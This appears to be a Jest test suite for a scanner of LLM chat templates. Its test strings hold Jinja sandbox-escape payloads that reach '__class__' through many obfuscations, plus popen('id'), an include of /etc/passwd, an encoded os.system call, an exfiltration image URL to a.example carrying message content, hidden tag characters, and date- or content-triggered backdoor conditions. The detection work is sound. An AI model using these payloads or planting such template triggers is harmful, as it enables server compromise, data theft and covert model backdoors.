// What the walk of a chat template tells, read by either reader. Templates of our own, in the manner of public ones; none is rendered.
import { describe, expect, it } from '@jest/globals'
import { readTemplate } from '../../../agent/isolate/read-template.ts'

const namesOf = (template: string): readonly string[] => readTemplate(template).actions.map(({ name }) => name)
const shownOf = (template: string, wanted: string): string | undefined =>
  readTemplate(template).actions.find(({ name }) => name === wanted)?.shown

describe('a chat template', () => {
  /** In the style of, and the template. */
  const ORDINARY: readonly (readonly [string, string])[] = [
    [
      'ChatML',
      "{% for m in messages %}{{ '<|im_start|>' + m.role + '\\n' + m['content'] + '<|im_end|>' }}{% endfor %}",
    ],
    [
      'Llama 2',
      "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% endif %}{% for m in loop_messages %}{% if (m['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('alternate') }}{% endif %}{{ bos_token ~ '[INST] ' ~ m.content.strip() ~ ' [/INST]' }}{% endfor %}",
    ],
    [
      'Llama 3.1 tools',
      "{%- if not date_string is defined %}{%- if strftime_now is defined %}{%- set date_string = strftime_now('%d %b %Y') %}{%- endif %}{%- endif %}{% for t in tools %}{{ t | tojson(indent=4) }}{% endfor %}{{ builtin_tools | reject('equalto', 'code_interpreter') | join(', ') }}",
    ],
    [
      'Qwen 3',
      "{%- set ns = namespace(multi_step_tool=true, last=messages|length - 1) %}{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}{%- if ns.multi_step_tool and message.content is string and not(message.content.startswith('<tool_response>')) %}{%- set ns.last = index %}{%- endif %}{%- endfor %}{{ content.split('</think>')[-1].lstrip('\\n') }}{%- if loop.previtem and loop.previtem.role != 'tool' %}{% endif %}",
    ],
    [
      'DeepSeek R1',
      "{% set content = m['content'] %}{% if '</think>' in content %}{% set content = content.split('</think>')|last %}{% endif %}{{ '<｜Assistant｜>' + content + '<｜end▁of▁sentence｜>' }}",
    ],
    [
      'Command R',
      "{% macro doc(d, i=0) %}{{ d.items() | list | length }}{% endmacro %}{{ doc(documents[0]) }}{% for t in tools | selectattr('type', 'equalto', 'function') | map(attribute='function') %}{{ t.name|upper }}{% endfor %}",
    ],
    [
      'Granite',
      "{%- if tools or documents %}{{ messages | map(attribute='role') | unique | join }}{% endif %}{% generation %}{{ x }}{% endgeneration %}{% for a in b %}{% if a is none %}{% continue %}{% endif %}{% break %}{% endfor %}",
    ],
    [
      'statements that the parser lacks',
      "{% do items.append(1) %}{% with a = 1, b = 'x' %}{{ a is divisibleby(2) }}{{ () }}{% endwith %}{% block body %}{% raw %}{{ as it stands }}{% endraw %}{% endblock %}{% filter upper %}x{% endfilter %}{{ a is sameas true }}{{ (1,) }}",
    ],
    [
      'a call with a caller',
      "{% macro box(t) %}{{ caller(t) }}{% endmacro %}{% call(u) box('x') %}{{ u }}{% endcall %}",
    ],
  ]
  it.each(ORDINARY)('in the style of %s is read whole and reaches for nothing', (_, template) => {
    const { actions, trouble } = readTemplate(template)

    expect(trouble).toBeUndefined()
    const reaching = actions.filter(({ name }) =>
      /^(attribute|string|computed|encoded|hidden|url|condition|loop|repeat)\./.test(name),
    )
    expect(reaching).toEqual([])
  })

  /** How the name is put together, and the template. */
  const REACHING: readonly (readonly [string, string])[] = [
    ['a dot', "{{ ''.__class__ }}"],
    ['a subscript', "{{ ''['__class__'] }}"],
    ['an empty tuple, which the parser refuses', '{{ ().__class__ }}'],
    ['+', "{{ ''['__cla' + 'ss__'] }}"],
    ['~ and *', "{{ x['_' * 2 ~ 'class' ~ '_' * 2] }}"],
    ['a list that is joined', "{{ x[['__', 'class', '__']|join] }}"],
    ['a method that joins', "{{ x[''.join(['__cl', 'ass__'])] }}"],
    ['letters by number', '{{ x[chr(95) ~ chr(95) ~ "class" ~ chr(95) * 2] }}'],
    ['braces', "{{ x['{}{}{}'.format('__', 'class', '__')] }}"],
    ['percent', "{{ x['%s%s' % ('__cla', 'ss__')] }}"],
    ['a filter that formats', "{{ x['%c%cclass__'|format(95, 95)] }}"],
    ['a text from behind', "{{ x['__ssalc__'[::-1]] }}"],
    ['a filter that turns around', "{{ x['__ssalc__'|reverse] }}"],
    ['a replacement', "{{ x['_-_class__'|replace('-', '')] }}"],
    ['small letters', "{{ x['__CLASS__'|lower] }}"],
    ['hexadecimal escapes', "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}"],
    ['unicode escapes', "{{ x['\\u005f\\u005fclass__'] }}"],
    ['octal escapes, which the parser refuses', "{{ x['\\137\\137class\\137\\137'] }}"],
    ['named characters', "{{ x['\\N{LOW LINE}_class__'] }}"],
    ['a variable', "{% set a = '__cla' %}{% set b = 'ss__' %}{{ x[a ~ b] }}"],
    ['a namespace', "{% set ns = namespace(k='__cla') %}{{ x[ns.k ~ 'ss__'] }}"],
    ['a loop', "{% for k in ['__class__'] %}{{ x[k] }}{% endfor %}"],
    ['names of arguments', '{{ x[dict(__cla=1, ss__=2)|join] }}'],
    ['attr', "{{ x|attr('__class__') }}"],
    ['attr over escapes', "{{ x|attr('\\x5f_class__')|attr('f_back') }}"],
    ['map', "{{ [x]|map(attribute='a.__class__')|list }}"],
    ['map by attr', "{{ [x]|map('attr', '__class__')|list }}"],
    ['getattr', "{{ getattr(x, '__class__') }}"],
    ['sort', "{{ [x]|sort(attribute='__class__') }}"],
    ['a block that is captured', '{% set k %}__class__{% endset %}{{ x[k] }}'],
    ['a filter statement', "{% filter attr('__class__') %}x{% endfilter %}"],
  ]
  it.each(REACHING)('reaches for a class by %s', (_, template) => {
    expect(namesOf(template)).toContain('attribute.__class__')
  })

  it('is shown with what was put together already together, at the place of the word', () => {
    expect(shownOf("{{ ''['__cla' ~ 'ss__']['__mro__'][1] }}", 'attribute.__mro__')).toBe("''.__class__.__mro__[1]")
    const found = readTemplate('ab {{ x.__init__ }}').actions.find(({ name }) => name === 'attribute.__init__')
    expect(found).toMatchObject({ at: 8, facts: { way: 'dot', isHidden: false } })
  })

  it('says that a name was hidden where it cannot be read in the source', () => {
    const [found] = readTemplate("{{ x['\\x5f_class__'] }}").actions.filter(({ name }) => name.startsWith('attribute.'))
    expect(found?.facts).toEqual({ way: 'subscript', isHidden: true })
  })

  /** What else it asks for or hides. */
  const OTHER: readonly (readonly [string, string])[] = [
    ['computed.attr-filter', "{{ ''|attr(x) }}"],
    ['computed.subscript', "{{ x[[a, 'b']|join] }}"],
    [
      'computed.subscript',
      "{% set ns = namespace(s='') %}{% for c in a %}{% set ns.s = ns.s ~ c %}{% endfor %}{{ x[ns.s] }}",
    ],
    ['repeat.ljust', "{{ 'x'.ljust(999999999) }}"],
    ['call.eval', "{{ eval('1') }}"],
    ['method.popen', "{{ x.y.popen('id') }}"],
    ['global.request', '{{ request.args }}'],
    ['string.__import__', "{{ f('__import__(0)') }}"],
    ['encoded.base64', "{{ f('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=') }}"],
    ['encoded.hex', "{{ f('696d706f7274206f733b206f732e73797374656d') }}"],
    ['statement.include', "{% include '/etc/passwd' %}"],
    ['loop.range', '{% for i in range(10 ** 9) %}{% endfor %}'],
    ['loop.nested', '{% for i in range(9999) %}{% for j in range(9999) %}{% endfor %}{% endfor %}'],
    ['repeat.text', "{{ 'a' * 100000000 }}"],
    ['hidden.tag-characters', 'be kind \u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}'],
    ['hidden.zero-width', 'be\u200b kind'],
    ['hidden.bidi-controls', "{{ 'be \u202ekind' }}"],
    ['hidden.mixed-scripts', 'p\u0430ssword'],
    ['url.filled-in', '![](https://a.example/?q={{ messages[0].content }})'],
    ['condition.content', "{% if 'bank account' in m.content|lower %}x{% endif %}"],
    ['condition.date', "{% if strftime_now('%Y') > '2026' %}x{% endif %}"],
  ]
  it.each(OTHER)('tells %s', (name, template) => {
    expect(namesOf(template)).toContain(name)
  })

  it('counts no joiner of emoji, no flag and no selector behind a symbol as hidden', () => {
    expect(
      namesOf('\ufeff👩\u200d💻 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} ❤\ufe0f نمی\u200cخواهم'),
    ).toEqual([])
  })

  it('tells what a broken template reaches for, and that this may not be all', () => {
    const answer = readTemplate('{{ x.__class__ ')

    expect(answer.trouble).toMatch(/does not end/)
    expect(answer.actions.map(({ name }) => name)).toContain('string.__class__')
  })

  it.each([
    ['brackets', `{{ ${'['.repeat(50_000)} }}`],
    ['operators', `{{ ${'not '.repeat(50_000)}x }}`],
    ['sums', `{{ ${'a ~ '.repeat(50_000)}b }}`],
    ['statements', '{% if x %}'.repeat(2_000) + '{% endif %}'.repeat(2_000)],
    ['tokens', `{{ ${'( '.repeat(300_000)} }}`],
  ])('of a bomb of %s ends in time', (_, template) => {
    expect(() => readTemplate(template)).not.toThrow()
  })
})
